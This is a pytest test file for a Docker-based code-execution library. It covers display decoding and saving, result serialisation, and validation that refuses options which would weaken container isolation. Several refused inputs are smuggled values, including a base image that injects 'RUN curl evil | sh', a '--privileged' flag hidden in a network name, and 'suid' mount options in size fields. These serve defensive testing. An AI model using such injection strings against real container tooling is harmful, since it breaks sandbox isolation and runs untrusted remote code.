"""models.py: display decoding and saving, JSON-ready results, option checks (no Docker)."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from codeexec import ContainerSession
from codeexec.docker import Docker
from codeexec.errors import InvalidOption
from codeexec.models import Display, ExecError, ExecResult, Limits
from codeexec.pool import WarmPool

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256))


def test_from_wire_decodes_binary_types_and_keeps_text() -> None:
    display = Display.from_wire(
        {
            "image/png": base64.b64encode(PNG).decode(),
            "image/jpeg": base64.b64encode(b"\xff\xd8jpeg").decode(),
            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>",
            "text/html": "<table></table>",
            "text/markdown": "# title",
            "text/plain": "<Thing>",
        }
    )
    assert display.data["image/png"] == PNG
    assert display.data["image/jpeg"] == b"\xff\xd8jpeg"
    assert display.data["image/svg+xml"] == "<svg xmlns='http://www.w3.org/2000/svg'/>"
    assert display.data["text/html"] == "<table></table>"
    assert display.mime_types == (
        "image/png",
        "image/jpeg",
        "image/svg+xml",
        "text/html",
        "text/markdown",
        "text/plain",
    )


def test_from_wire_turns_json_data_into_json_text() -> None:
    display = Display.from_wire({"application/json": {"a": [1, 2]}, "text/plain": "x"})
    assert json.loads(display.data["application/json"]) == {"a": [1, 2]}
    # A _repr_json_ that returned a JSON string already is kept as it is.
    assert Display.from_wire({"application/json": "[1]"}).data["application/json"] == "[1]"


def test_save_writes_each_rich_representation(tmp_path: Path) -> None:
    display = Display({"image/png": PNG, "text/html": "<b>é</b>", "text/plain": "plain"})
    paths = display.save(tmp_path / "new" / "dir", stem="fig")
    assert [p.name for p in paths] == ["fig.png", "fig.html"]
    assert paths[0].read_bytes() == PNG
    assert paths[1].read_text(encoding="utf-8") == "<b>é</b>"


def test_save_skips_plain_text_only_displays(tmp_path: Path) -> None:
    assert Display({"text/plain": "42"}).save(tmp_path) == []
    assert list(tmp_path.iterdir()) == []


def test_save_svg_markdown_json_as_text(tmp_path: Path) -> None:
    display = Display.from_wire(
        {"image/svg+xml": "<svg/>", "text/markdown": "*x*", "application/json": {"k": 1}}
    )
    names = {p.name: p.read_text() for p in display.save(tmp_path)}
    assert names == {"output.svg": "<svg/>", "output.md": "*x*", "output.json": '{"k": 1}'}


def test_save_displays_numbers_outputs(tmp_path: Path) -> None:
    result = ExecResult(
        status="ok",
        displays=(
            Display({"image/png": PNG, "text/plain": "<Figure>"}),
            Display({"text/plain": "only text"}),
            Display({"image/png": PNG + b"2", "text/plain": "<Figure>"}),
        ),
    )
    paths = result.save_displays(tmp_path)
    assert [p.name for p in paths] == ["output-1.png", "output-3.png"]
    assert (tmp_path / "output-3.png").read_bytes() == PNG + b"2"


def test_to_dict_is_json_ready_with_base64_images() -> None:
    result = ExecResult(
        status="error",
        stdout="out\n",
        value=None,
        error=ExecError(
            "ValueError", "bad", ("Traceback (most recent call last):", "ValueError: bad")
        ),
        displays=(Display({"image/png": PNG, "text/plain": "<Figure>"}),),
    )
    data = json.loads(json.dumps(result.to_dict()))
    assert data["status"] == "error" and data["stdout"] == "out\n"
    assert data["displays"] == [
        {"image/png": base64.b64encode(PNG).decode("ascii"), "text/plain": "<Figure>"}
    ]
    assert data["error"] == {
        "ename": "ValueError",
        "evalue": "bad",
        "traceback": ["Traceback (most recent call last):", "ValueError: bad"],
    }
    # The result itself is untouched: still bytes.
    assert result.displays[0].data["image/png"] == PNG


def test_exec_error_format() -> None:
    assert ExecError("E", "m", ("line 1", "E: m")).format() == "line 1\nE: m"
    assert ExecError("E", "m", ("line 1\n", "E: m\n")).format() == "line 1\nE: m"
    assert ExecError("E", "m").format() == "E: m"
    assert ExecError("E", "").format() == "E"


# -- options that would silently remove isolation are refused before any docker call ------

FAKE = str(Path(__file__).with_name("fake_docker.py"))
_SIZE_HINT = (
    "is not a size: use a number with an optional unit k, m or g, such as '512m' or '2g' "
    "(nothing else, no mount options)"
)
_NETWORKS = "use 'bridge' (default), 'none', or"


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"network": "host"}, "network 'host' would give the code the host's own network "
            f"stack and is refused: {_NETWORKS} a network made with `docker network create`"),
        ({"network": "container:abc"}, "network 'container:abc' would join another "
            "container's network namespace and is refused: "
            f"{_NETWORKS} a network made with `docker network create`"),
        ({"network": "br0 --privileged"}, "network 'br0 --privileged' is not a docker "
            f"network name: {_NETWORKS} the name of a network made with `docker network create`"),
        ({"network": ""}, "network '' is not a docker network name: "
            f"{_NETWORKS} the name of a network made with `docker network create`"),
        ({"memory": "banana"}, f"memory 'banana' {_SIZE_HINT}"),
        ({"memory": "0"}, "memory '0' is too small: give at least 6m"),
        ({"memory": "-1"}, f"memory '-1' {_SIZE_HINT}"),
        ({"memory": "1g,suid"}, f"memory '1g,suid' {_SIZE_HINT}"),
        ({"cpus": 0}, "cpus limit 0 is not a positive number: use e.g. 1, 2 or 0.5"),
        ({"cpus": -2.0}, "cpus limit -2.0 is not a positive number: use e.g. 1, 2 or 0.5"),
        ({"cpus": float("nan")}, "cpus limit nan is not a positive number: use e.g. 1, 2 or 0.5"),
        ({"pids": 0}, "pids limit 0 is not a positive whole number: use e.g. 256 "
            "(docker reads 0 or -1 as no limit at all)"),
        ({"pids": -1}, "pids limit -1 is not a positive whole number: use e.g. 256 "
            "(docker reads 0 or -1 as no limit at all)"),
        ({"tmp_size": "1g,suid"}, f"tmp_size '1g,suid' {_SIZE_HINT}"),
        ({"workspace_size": "1g,exec,dev"}, f"workspace_size '1g,exec,dev' {_SIZE_HINT}"),
        ({"tmp_size": "0"}, "tmp_size '0' is too small: give at least 1"),
        ({"base_image": "python:3.12\nRUN curl evil | sh"}, "base image "
            "'python:3.12\\nRUN curl evil | sh' is not an image reference (whitespace, newlines, "
            "control characters and a leading '-' are refused): give one such as "
            "'python:3.12-slim'"),
        ({"base_image": "--help"}, "base image '--help' is not an image reference (whitespace, "
            "newlines, control characters and a leading '-' are refused): give one such as "
            "'python:3.12-slim'"),
    ],
)  # fmt: skip
def test_refused_options_say_why_before_any_docker_call(
    options: dict[str, Any], message: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = tmp_path / "docker.log"
    monkeypatch.setenv("FAKE_DOCKER_LOG", str(log))
    with pytest.raises(InvalidOption) as caught:
        if "tmp_size" in options or "workspace_size" in options:  # only through Limits
            options = {"limits": Limits(**options)}
        ContainerSession.start("x", docker=Docker(FAKE), **options)
    assert caught.value.message == message
    assert not log.exists()  # not one docker call: no lookup, no build, no container


def test_a_newline_in_codeexec_base_image_is_refused_before_any_docker_call(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log = tmp_path / "docker.log"
    monkeypatch.setenv("FAKE_DOCKER_LOG", str(log))
    monkeypatch.setenv("CODEEXEC_BASE_IMAGE", "base:1\nUSER root")
    with pytest.raises(InvalidOption, match="is not an image reference"):
        ContainerSession.start("x", docker=Docker(FAKE))
    assert not log.exists()


def test_a_warm_pool_refuses_them_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAKE_DOCKER_LOG", str(tmp_path / "docker.log"))
    with pytest.raises(InvalidOption, match="network 'host' would give the code"):
        WarmPool(network="host", docker=Docker(FAKE))
    with pytest.raises(InvalidOption, match="base image 'a b' is not an image reference"):
        WarmPool(base_image="a b", docker=Docker(FAKE)).start()
    assert not (tmp_path / "docker.log").exists()


@pytest.mark.parametrize(
    "good",
    [
        {"memory": "512m", "cpus": 0.5, "pids": 1},
        {"memory": "1.5g", "tmp_size": "64k", "workspace_size": "2G"},
        {"memory": "6291456", "cpus": 2},
        {"memory": "1gb", "tmp_size": "100MiB"},
    ],
)
def test_plain_limits_are_accepted(good: dict[str, Any]) -> None:
    assert Limits(**good)
